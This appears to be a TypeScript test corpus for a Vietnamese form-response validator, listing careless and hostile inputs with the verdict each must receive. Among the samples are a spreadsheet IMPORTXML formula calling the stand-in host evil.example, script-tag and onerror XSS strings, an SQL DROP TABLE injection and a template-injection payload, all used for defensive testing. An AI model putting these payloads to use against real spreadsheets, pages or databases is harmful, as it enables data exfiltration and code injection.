// The bad-input corpus: hostile or careless form responses, each with the verdict the rules must give it.
// A case lists the answers that differ from a valid response of its unit (null = the cell is absent), and the
// status and error text (a substring of the Vietnamese `Lỗi` line) its `Kiểm tra` row must show.
import type { Cell } from '../../../functions/core/cells.ts';

export type Status = 'Hợp lệ' | 'Không hợp lệ';

export interface Expect {
  readonly status: Status;
  /** Substring of the `Lỗi` cell; absent for a valid row (then `Lỗi` must be empty). */
  readonly error?: string;
  /** The unit code as `Kiểm tra` shows it, after normalisation. */
  readonly unitCode?: string;
  /** Substring of the notes (`Kết luận` or `Ghi chú`). */
  readonly note?: string;
}

export interface CorpusCase {
  readonly id: string;
  readonly form: string;
  /** Index of the bench unit whose valid response is the base (0: Cơ quan, 1: Doanh nghiệp, 3: Xã/Phường, 5: Công đoàn cơ sở). */
  readonly unit: number;
  /** One entry per submitted row, in sheet order. */
  readonly rows: readonly Readonly<Record<string, Cell | null>>[];
  readonly expect: readonly Expect[];
  /** Also checked end to end through the local servers. */
  readonly e2e?: boolean;
}

export const REG = 'Đăng ký thi đua';
export const INTERIM = 'Báo cáo sơ kết';
export const FINAL = 'Báo cáo tổng kết';
export const NOM = 'Đề nghị khen thưởng';

const ok: Expect = { status: 'Hợp lệ' };
const bad = (error: string): Expect => ({ status: 'Không hợp lệ', error });

const REQUIRED = 'bắt buộc trả lời nhưng đang để trống';
const NOT_INTEGER = 'phải là số nguyên không âm';
const NOT_PERCENT = 'phải là tỷ lệ phần trăm từ 0 đến 100';
const NOT_EMAIL = 'không phải địa chỉ email hợp lệ';
const NOT_OPTION = 'phải là một trong các lựa chọn';
const UNKNOWN_UNIT = 'trong danh sách đơn vị';
const BAD_TIME = 'không đọc được thời điểm nộp';

const long = (n: number, unit = 'a') => unit.repeat(n);
const FORMULA = '=IMPORTXML("HTTP://EVIL.EXAMPLE/","//A")';

function one(id: string, form: string, answers: Record<string, Cell | null>, expect: Expect, options: { unit?: number; e2e?: boolean } = {}): CorpusCase {
  return { id, form, unit: options.unit ?? 0, rows: [answers], expect: [expect], ...(options.e2e ? { e2e: true } : {}) };
}

const code = (v: Cell | null, e: Expect, id: string, e2e = false) => one(id, REG, { 'Mã đơn vị': v }, e, { e2e });
const person = (v: Cell | null, e: Expect, id: string, e2e = false) => one(id, REG, { 'Người đăng ký': v }, e, { e2e });
const email = (v: Cell | null, e: Expect, id: string) => one(id, REG, { 'Email người đăng ký': v }, e);
const antt = (v: Cell | null, e: Expect, id: string) => one(id, REG, { 'Đăng ký "An toàn về ANTT"': v }, e);
const pledge = (v: Cell | null, e: Expect, id: string, e2e = false) => one(id, REG, { 'Nội dung cam kết': v }, e, { e2e });
const places = (v: Cell | null, e: Expect, id: string) => one(id, REG, { 'Số điểm áp dụng mô hình': v }, e);
const stamp = (v: Cell | null, e: Expect, id: string, e2e = false) => one(id, REG, { 'Dấu thời gian': v }, e, { e2e });
const sessions = (v: Cell | null, e: Expect, id: string, e2e = false) => one(id, INTERIM, { 'Số buổi tuyên truyền': v }, e, { e2e });
const staffPct = (v: Cell | null, e: Expect, id: string) => one(id, INTERIM, { 'Tỷ lệ cán bộ, nhân viên được tuyên truyền (%)': v }, e);
const TC4 = '[TC4] Xây dựng, duy trì và nhân rộng mô hình, điển hình tiên tiến (tối đa 20 điểm)';
const score = (v: Cell | null, e: Expect, id: string) => one(id, FINAL, { [TC4]: v }, e);

const MEDAL = 'Kỷ niệm chương "Bảo vệ an ninh Tổ quốc"';
const medal = (extra: Record<string, Cell | null>): Record<string, Cell | null> => ({
  'Đối tượng': 'Cá nhân',
  'Hình thức khen thưởng': MEDAL,
  'Họ tên / Tên tập thể': 'Lê Hoàng Cường',
  'Chức vụ': 'Tổ trưởng tổ bảo vệ an ninh, trật tự',
  'Thành tích tóm tắt': null,
  'Giới tính': 'Nam',
  'Nhóm đối tượng': 'Lực lượng cơ sở',
  'Số năm công tác': 16,
  'Số năm ở vùng đặc biệt khó khăn': 0,
  'Số lần được khen về ANTQ': 2,
  'Đã được tặng huy chương loại trừ': 'Không',
  'Đang bị kỷ luật hoặc xem xét': 'Không',
  ...extra,
});

export const CORPUS: readonly CorpusCase[] = [
  // Unit codes: empty, careless, unknown, hostile.
  code('', bad(REQUIRED), 'code-empty', true),
  code('   ', bad(REQUIRED), 'code-spaces'),
  code('\t\n', bad(REQUIRED), 'code-tab-newline'),
  code('dv-00001', { ...ok, unitCode: 'DV-00001' }, 'code-lower-case', true),
  code('  dv-00001  ', { ...ok, unitCode: 'DV-00001' }, 'code-padded'),
  code('Dv-00001', { ...ok, unitCode: 'DV-00001' }, 'code-mixed-case'),
  code('DV-99999', bad(UNKNOWN_UNIT), 'code-unknown', true),
  code('DV- 00001', bad(UNKNOWN_UNIT), 'code-inner-space'),
  code('ＤＶ-00001', bad(UNKNOWN_UNIT), 'code-full-width'),
  code('DV-00001\u200b', bad(UNKNOWN_UNIT), 'code-zero-width-space'),
  code(12345, { ...bad(UNKNOWN_UNIT), unitCode: '12345' }, 'code-number-cell'),
  code(long(41, 'X'), bad('dài quá 40 ký tự'), 'code-too-long'),
  code(FORMULA, { ...bad(UNKNOWN_UNIT), unitCode: FORMULA }, 'code-formula', true),
  code('<SCRIPT>ALERT(1)</SCRIPT>', { ...bad(UNKNOWN_UNIT), unitCode: '<SCRIPT>ALERT(1)</SCRIPT>' }, 'code-script-tag', true),
  code('+DV-00001', bad(UNKNOWN_UNIT), 'code-plus-prefix'),
  code('@DV-00001', bad(UNKNOWN_UNIT), 'code-at-prefix'),
  code(null, bad(REQUIRED), 'code-missing-cell'),

  // Free text: whitespace, NFD Vietnamese, emoji, formula-looking and markup text (all ordinary text), length.
  person('', bad(REQUIRED), 'person-empty'),
  person(' \n\t ', bad(REQUIRED), 'person-whitespace'),
  person('Trần Thị Thu Hà'.normalize('NFD'), ok, 'person-nfd', true),
  person('👮‍♀️ Nguyễn Văn An 🇻🇳', ok, 'person-emoji', true),
  person(long(121), bad('dài quá 120 ký tự'), 'person-121-chars'),
  person(long(120, '👍'), ok, 'person-120-emoji-counted-as-characters'),
  person(long(121, 'ệ'), bad('dài quá 120 ký tự'), 'person-121-vietnamese'),
  person(long(120, 'e\u0302\u0323'), ok, 'person-120-nfd-letters-count-after-nfc'),
  person('=IMPORTXML("http://evil.example","//a")', ok, 'person-formula-equals', true),
  person('+84 912 345 678', ok, 'person-formula-plus'),
  person('-Nguyễn Văn An', ok, 'person-formula-minus'),
  person('@Nguyễn Văn An', ok, 'person-formula-at'),
  person('<script>alert("xss")</script>', ok, 'person-script-tag', true),
  person('<b>Nguyễn</b> &amp; "An"', ok, 'person-html'),
  person("Nguyễn Văn A'; DROP TABLE units;--", ok, 'person-sql'),
  person('null', ok, 'person-null-word'),
  person(0, ok, 'person-number-zero'),
  person(true, ok, 'person-boolean-cell'),

  // Emails.
  email('', bad(REQUIRED), 'email-empty'),
  email('vanthu@example', bad(NOT_EMAIL), 'email-no-tld'),
  email('vanthu example.vn', bad(NOT_EMAIL), 'email-no-at'),
  email('vanthu@@example.vn', bad(NOT_EMAIL), 'email-double-at'),
  email('vanthu@example.vn, lanhdao@example.vn', bad(NOT_EMAIL), 'email-two-addresses'),
  email('  VanThu.DV00001@Example.VN  ', ok, 'email-padded-mixed-case'),
  // SendGrid delivers only ASCII addresses: a name typed with its diacritics is refused at once, not bounced later.
  email('văn.thư@ví-dụ.vn', bad(NOT_EMAIL), 'email-unicode'),
  email('=HYPERLINK("mailto:vanthu@example.vn")', bad(NOT_EMAIL), 'email-formula'),
  email(long(250) + '@e.vn', bad('dài quá 254 ký tự'), 'email-too-long'),

  // Choices: case, spacing, NFD, missing diacritics, unknown.
  antt('có', ok, 'choice-lower-case'),
  antt('  CÓ  ', ok, 'choice-upper-padded'),
  antt('Có'.normalize('NFD'), ok, 'choice-nfd'),
  antt('Không  thuộc   phạm vi', ok, 'choice-inner-spaces'),
  antt('Co', bad(NOT_OPTION), 'choice-no-diacritics'),
  antt('Yes', bad(NOT_OPTION), 'choice-english'),
  antt('', bad(REQUIRED), 'choice-empty'),
  antt('Có, Không', bad(NOT_OPTION), 'choice-two-options'),

  // Paragraphs: 50,000 characters, limits, line breaks, markup and formulas.
  pledge('', bad(REQUIRED), 'paragraph-empty'),
  pledge(long(50_000), bad('dài quá 5.000 ký tự (đơn vị đã nhập 50.000 ký tự)'), 'paragraph-50000-chars', true),
  pledge(long(5_000, 'ư'), ok, 'paragraph-5000-chars'),
  pledge(long(5_001), bad('dài quá 5.000 ký tự'), 'paragraph-5001-chars'),
  pledge('Dòng 1\r\nDòng 2\nDòng 3', ok, 'paragraph-crlf'),
  pledge('<img src=x onerror=alert(1)>', ok, 'paragraph-img-onerror', true),
  pledge(FORMULA, ok, 'paragraph-importxml'),
  pledge('@SUM(A1:A3)', ok, 'paragraph-at-sum'),
  pledge('{{constructor.constructor("return process")()}}', ok, 'paragraph-template-injection', true),

  // Integers with Vietnamese separators and the ways they go wrong.
  places('1.234', ok, 'integer-thousands-dot'),
  places('1.234,5', bad(NOT_INTEGER), 'integer-vn-decimal'),
  places('1,5', bad(NOT_INTEGER), 'integer-decimal-comma'),
  places('1,234', bad(NOT_INTEGER), 'integer-english-thousands'),
  places('1.23', bad(NOT_INTEGER), 'integer-short-group'),
  places('-3', bad(NOT_INTEGER), 'integer-negative-text'),
  places(-3, bad(NOT_INTEGER), 'integer-negative-number'),
  places(2.5, bad(NOT_INTEGER), 'integer-fraction-number'),
  places('12abc', bad(NOT_INTEGER), 'integer-trailing-letters'),
  places('１２', bad(NOT_INTEGER), 'integer-full-width-digits'),
  places('1 234', bad(NOT_INTEGER), 'integer-space-separator'),
  places(' 12 ', ok, 'integer-padded'),
  places('100001', bad('phải từ 0 đến 100.000'), 'integer-above-max'),
  places('', ok, 'integer-optional-empty'),
  places('=1+1', bad(NOT_INTEGER), 'integer-formula'),

  // Timestamps: serial, dd/MM/yyyy, dd/MM/yyyy HH:mm:ss are read; ISO and US dates are not.
  stamp(46096.5, ok, 'date-serial'),
  stamp('15/03/2026', ok, 'date-dmy'),
  stamp('15/03/2026 08:30:00', ok, 'date-dmy-time', true),
  stamp('5/3/2026 8:30', ok, 'date-dmy-short'),
  stamp('2026-03-15T08:30:00Z', bad(BAD_TIME), 'date-iso', true),
  stamp('03/15/2026', bad(BAD_TIME), 'date-us'),
  stamp('31/02/2026', bad(BAD_TIME), 'date-impossible'),
  stamp('hôm qua', bad(BAD_TIME), 'date-words'),
  stamp(-1, bad(BAD_TIME), 'date-negative-serial'),
  stamp(1e9, bad('không phải một ngày trong khoảng năm 1900–2200'), 'date-serial-out-of-range-defect-4'),
  stamp(109_940, bad('không phải một ngày trong khoảng năm 1900–2200'), 'date-serial-2201'),
  stamp('01/01/2201', bad(BAD_TIME), 'date-text-2201'),
  stamp('', bad(BAD_TIME), 'date-empty'),

  // Cross-question rules.
  one('union-without-model', REG, { 'Mô hình điển hình đăng ký': null }, bad('công đoàn cơ sở phải đăng ký ít nhất một mô hình'), { unit: 5 }),
  one('union-model-whitespace', REG, { 'Mô hình điển hình đăng ký': '   ' }, bad('công đoàn cơ sở phải đăng ký ít nhất một mô hình'), { unit: 5 }),

  // Report indicators and percents.
  sessions('1.234', ok, 'indicator-thousands-dot'),
  sessions('12.345.678', ok, 'indicator-millions'),
  sessions('1.234,5', bad(NOT_INTEGER), 'indicator-vn-decimal', true),
  sessions('', bad(REQUIRED), 'indicator-empty'),
  sessions(null, bad(REQUIRED), 'indicator-missing-cell'),
  sessions('không có', bad(NOT_INTEGER), 'indicator-words'),
  sessions('0', ok, 'indicator-zero'),
  sessions(1e9, bad('phải từ 0 đến 100.000.000'), 'indicator-above-max'),
  sessions('=SUM(1;2)', bad(NOT_INTEGER), 'indicator-formula'),
  staffPct('95,5', ok, 'percent-decimal-comma'),
  staffPct('95.5', ok, 'percent-decimal-dot'),
  staffPct('95%', ok, 'percent-sign'),
  staffPct('95,5 %', ok, 'percent-comma-and-sign'),
  staffPct('101', bad(NOT_PERCENT), 'percent-above-100'),
  staffPct('-5', bad(NOT_PERCENT), 'percent-negative'),
  staffPct('chín mươi', bad(NOT_PERCENT), 'percent-words'),
  one('indicator-recognised-above-registered', INTERIM, {
    'Số đơn vị, khu dân cư đăng ký "An toàn về ANTT"': 10,
    'Số đơn vị, khu dân cư được công nhận "An toàn về ANTT"': 12,
  }, bad('không được lớn hơn câu'), { e2e: true }),
  one('report-notes-50000-chars', INTERIM, { 'Kết quả nổi bật, hạn chế': long(50_000, 'â') }, bad('dài quá 5.000 ký tự')),
  one('report-optional-cells-missing', INTERIM, { 'Kết quả nổi bật, hạn chế': null, 'Tỷ lệ hộ gia đình ký cam kết (%)': null }, ok),

  // Final report: scores are never clamped.
  score('25', bad('điểm phải là số từ 0 đến 20'), 'score-above-max'),
  score(-1, bad('điểm phải là số từ 0 đến 20'), 'score-negative'),
  score('17,5', ok, 'score-decimal-comma'),
  score(20, ok, 'score-at-max'),
  score(20.0001, bad('điểm phải là số từ 0 đến 20'), 'score-just-above-max'),
  score('', bad(REQUIRED), 'score-empty'),
  score('mười', bad('điểm phải là số từ 0 đến 20'), 'score-words'),
  one('final-incident-lower-case', FINAL, { 'Để xảy ra vụ việc nghiêm trọng về ANTT': 'không' }, ok),
  one('final-incident-empty', FINAL, { 'Để xảy ra vụ việc nghiêm trọng về ANTT': '' }, bad(REQUIRED)),
  one('final-antt-answer-unknown', FINAL, { 'Cơ quan, doanh nghiệp: 100% cán bộ, nhân viên được phổ biến, quán triệt': 'Chưa' }, bad(NOT_OPTION)),

  // Nominations.
  one('nomination-medal-without-details', NOM, medal({ 'Giới tính': null, 'Số năm công tác': null }),
    bad('bắt buộc trả lời khi "Hình thức khen thưởng" là "Kỷ niệm chương')),
  one('nomination-medal-with-birth-date', NOM, medal({ 'Ngày sinh': '21/06/1968' }), ok),
  one('nomination-medal-without-birth-date', NOM, medal({}),
    bad('Câu "Ngày sinh": bắt buộc trả lời khi "Đối tượng" là "Cá nhân" và "Hình thức khen thưởng" là "Kỷ niệm chương')),
  one('nomination-birth-date-impossible', NOM, medal({ 'Ngày sinh': '31/02/1968' }), bad('phải là một ngày có thật')),
  one('nomination-birth-date-iso', NOM, medal({ 'Ngày sinh': '1968-06-21' }), bad('ghi theo dạng ngày/tháng/năm (dd/MM/yyyy)')),
  one('nomination-birth-date-future', NOM, medal({ 'Ngày sinh': '21/06/2199' }), bad('muộn hơn ngày gửi')),
  one('nomination-certificate-without-summary', NOM, { 'Thành tích tóm tắt': '' },
    bad('bắt buộc trả lời khi "Hình thức khen thưởng" là "Bằng khen của Bộ trưởng Bộ Công an"'), { e2e: true }),
  one('nomination-individual-without-position', NOM, { 'Đối tượng': 'Cá nhân', 'Chức vụ': null },
    bad('bắt buộc trả lời khi "Đối tượng" là "Cá nhân"')),
  one('nomination-kind-lower-case', NOM, { 'Đối tượng': 'tập thể' }, ok),
  one('nomination-award-partial-name', NOM, { 'Hình thức khen thưởng': 'Bằng khen' }, bad(NOT_OPTION)),
  one('nomination-summary-3001-chars', NOM, { 'Thành tích tóm tắt': long(3_001) }, bad('dài quá 3.000 ký tự')),
  one('nomination-difficult-years-above-years', NOM, medal({ 'Số năm công tác': 5, 'Số năm ở vùng đặc biệt khó khăn': 8 }),
    bad('không được lớn hơn câu "Số năm công tác"')),
  one('nomination-script-nominee', NOM, { 'Họ tên / Tên tập thể': '<script>alert("x")</script>' }, ok, { e2e: true }),

  // Several rows: duplicated and edited submissions.
  { id: 'duplicate-identical-rows', form: REG, unit: 0, rows: [{}, {}], expect: [{ ...ok, note: 'Đã thay thế bằng lần nộp sau' }, ok] },
  {
    id: 'edited-invalid-then-fixed',
    form: REG,
    unit: 0,
    rows: [{ 'Nội dung cam kết': '' }, { 'Dấu thời gian': '20/03/2026 09:00:00' }],
    expect: [{ ...bad(REQUIRED), note: 'Đã thay thế bằng lần nộp sau' }, ok],
    e2e: true,
  },
  {
    id: 'valid-then-broken-edit',
    form: REG,
    unit: 0,
    rows: [{}, { 'Dấu thời gian': '20/03/2026 09:00:00', 'Email người đăng ký': 'sai-email' }],
    expect: [ok, bad(NOT_EMAIL)],
  },
  {
    id: 'two-units-one-code-lower-case',
    form: INTERIM,
    unit: 1,
    rows: [{}, { 'Mã đơn vị': 'dv-00002', 'Dấu thời gian': '30/09/2026 10:00:00' }],
    expect: [{ ...ok, note: 'Đã thay thế bằng lần nộp sau' }, { ...ok, unitCode: 'DV-00002' }],
  },
  {
    id: 'nomination-duplicate-nominee-spacing',
    form: NOM,
    unit: 0,
    rows: [
      { 'Họ tên / Tên tập thể': 'Tổ bảo vệ  số 5' },
      { 'Họ tên / Tên tập thể': 'tổ bảo vệ số 5', 'Dấu thời gian': '20/11/2026 10:00:00' },
    ],
    expect: [ok, { ...ok, note: 'Trùng' }],
  },
];
